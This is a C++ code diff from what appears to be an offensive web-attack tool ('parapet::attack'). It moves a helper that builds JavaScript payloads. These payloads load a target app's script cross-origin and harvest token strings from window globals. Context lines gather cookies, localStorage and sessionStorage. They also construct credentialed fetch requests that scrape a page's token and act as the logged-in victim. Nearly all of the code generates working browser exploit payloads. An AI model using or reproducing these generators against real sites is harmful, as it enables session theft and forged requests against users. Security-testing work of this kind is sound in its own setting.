@@ -1,25 +1,9 @@
 #include "core/attack/page_script.h"
 
+#include "core/attack/app_script.h"
 #include "core/attack/options.h"
 
 namespace parapet::attack {
-
-namespace {
-
-// A script of the app's may be loaded by any page, which then sees what it has left in window.
-std::string act_with_script(Target const& target, OwnForm const& own, std::size_t length,
-                            std::string const& act) {
-    std::string const wanted = "typeof t===\"string\"&&t.length===" + std::to_string(length);
-    return "const s=document.createElement(\"script\");s.src=" +
-           script_string(app_origin(target) + own.page) +
-           ";s.onload=()=>{const all=[];for(const k of Object.getOwnPropertyNames(window)){"
-           "let v;try{v=window[k]}catch{continue}all.push(v);"
-           "if(v&&typeof v===\"object\"&&v!==window&&!v.nodeType)try{all.push(...Object.values(v))}"
-           "catch{}}for(const t of all.filter(t=>" +
-           wanted + ").slice(-4)){" + act + "}};document.head.appendChild(s);";
-}
-
-}  // namespace
 
 char const kAllInReach[] =
     "document.cookie+\"\\n\"+JSON.stringify(localStorage)+\"\\n\"+JSON.stringify(sessionStorage)+"
@@ -107,7 +91,7 @@ std::string act_script(Target const& target, Endpoint const& endpoint, OwnForm c
     // A header has to be asked for first, and a field may be enough.
     std::string act = fetch_script(endpoint.method, address, type, expression);
     act += fetch_script(endpoint.method, address, type, expression, headers);
-    if (own.told == OwnForm::Told::InScript) return act_with_script(target, own, token.size(), act);
+    if (!own.script.empty()) return act_with_script(target, own, act);
     return "fetch(" + script_string(app_origin(target) + own.page) +
            ",{credentials:\"include\"}).then(r=>r.text()).then(p=>{const t=p.split(" +
            script_string(own.before_token) + ")[1].split(" + script_string(own.after_token) +
